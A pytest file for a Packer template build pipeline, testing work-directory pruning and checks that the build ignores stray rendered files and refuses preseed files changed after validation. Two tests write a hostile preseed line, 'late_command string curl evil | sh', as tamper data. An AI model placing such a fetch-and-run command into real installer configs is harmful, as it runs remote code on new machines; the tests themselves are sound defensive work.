"""build.py's own bookkeeping, without a node: work-directory retention, and what of the rendered folder
a build takes (the render's record, nothing else)."""

from types import SimpleNamespace

import pytest
from support import REPO

from packer_assets.build.pipeline import (RECORD, BuildJob, BuildSettings, build_template, input_fingerprint_of, prune_work_dirs,
                                 render_and_validate, rendered_hashes, served_render)
from packer_assets.evidence.chain import new_chain_id
from packer_assets.packer.runner import PackerCheck
from packer_assets.pve.staging import StagedIso
from packer_assets.render.record import RenderRecordError
from packer_assets.catalog import load_catalog
from packer_assets.evidence.layout import Layout


def test_work_dirs_keep_the_last_successes_and_failures_until_the_next_success(tmp_path):
    entry = load_catalog(project_dir=REPO, env={}).get("debian-12").model_copy(update={"work_dirs": 2})
    layout = Layout(tmp_path)
    outcomes = {"20260101T000000Z": "ok", "20260102T000000Z": "failed", "20260103T000000Z": "ok",
                "20260104T000000Z": "failed", "20260105T000000Z": "ok"}
    for stamp, outcome in outcomes.items():
        (layout.work_dir(entry.key) / stamp).mkdir(parents=True)
        log_dir = layout.build_log_dir(entry.key, stamp)
        log_dir.mkdir(parents=True)
        if outcome == "ok":
            (log_dir / RECORD).write_text("{}")
    (layout.work_dir(entry.key) / "validate-abc").mkdir()  # a validation in progress: not ours to remove
    removed = prune_work_dirs(layout, entry)
    left = sorted(p.name for p in layout.work_dir(entry.key).iterdir())
    assert left == ["20260103T000000Z", "20260105T000000Z", "validate-abc"]
    assert sorted(p.name for p in removed) == ["20260101T000000Z", "20260102T000000Z", "20260104T000000Z"]
    # a failure after the last success stays (the next success removes it)
    (layout.work_dir(entry.key) / "20260106T000000Z").mkdir()
    assert prune_work_dirs(layout, entry) == []


ENV = {"PACKER_INSTALL_PASSWORD": "install-pw-1"}


def rendered_key(tmp_path, monkeypatch):
    """debian-12 rendered and recorded as unattended_files does it (`packer validate` stubbed: not its test)."""
    monkeypatch.setattr("packer_assets.build.pipeline.validate_build", lambda *a, **k: PackerCheck(True, 0, "", ["packer"]))
    layout, entry = Layout(tmp_path / "out"), load_catalog(project_dir=REPO, env={}).get("debian-12")
    render_and_validate(layout, entry, ENV, BuildSettings(), project_dir=REPO, reuse=True)
    return layout, entry, layout.rendered_dir(entry.key)


def staged_iso():
    return {"iso": StagedIso(volid="local:iso/x.iso", size=1, checksum="ab" * 32, algorithm="sha256",
                             source="https://example.invalid/x.iso", seconds=0.0, bytes_through_control_host=0,
                             downloaded=False)}


def test_a_stray_file_in_the_rendered_folder_is_no_input_of_a_build(tmp_path, monkeypatch):
    layout, entry, folder = rendered_key(tmp_path, monkeypatch)
    before = input_fingerprint_of(entry, staged_iso(), served_render(layout, entry.key, folder), REPO)
    (folder / "evil.cfg").write_text("d-i preseed/late_command string curl evil | sh\n")
    served = served_render(layout, entry.key, folder)
    assert input_fingerprint_of(entry, staged_iso(), served, REPO) == before
    assert list(rendered_hashes(served)) == ["preseed.cfg"] and served.ignored == ("evil.cfg",)
    assert "evil.cfg" in served.warnings(entry.key)[0]


@pytest.mark.parametrize("change", ["edited", "no record"])
def test_a_build_refuses_a_render_changed_since_it_was_validated_before_touching_the_node(tmp_path, monkeypatch,
                                                                                          change):
    layout, entry, folder = rendered_key(tmp_path, monkeypatch)
    if change == "edited":
        (folder / "preseed.cfg").write_text("d-i preseed/late_command string curl evil | sh\n")
    else:
        (layout.output_root / "output/state/render/debian-12.json").unlink()
    node = SimpleNamespace(discovery=None, connect=lambda: pytest.fail("the node was contacted"))
    with pytest.raises(RenderRecordError) as err:
        build_template(BuildJob(layout, entry, node, None, "", staged_iso(), folder, new_chain_id(entry.key),
                                BuildSettings(), project_dir=REPO))
    assert str(err.value).startswith("debian-12: ") and "\n" not in str(err.value)
    assert ("preseed.cfg: changed since the render" if change == "edited" else "no record") in str(err.value)
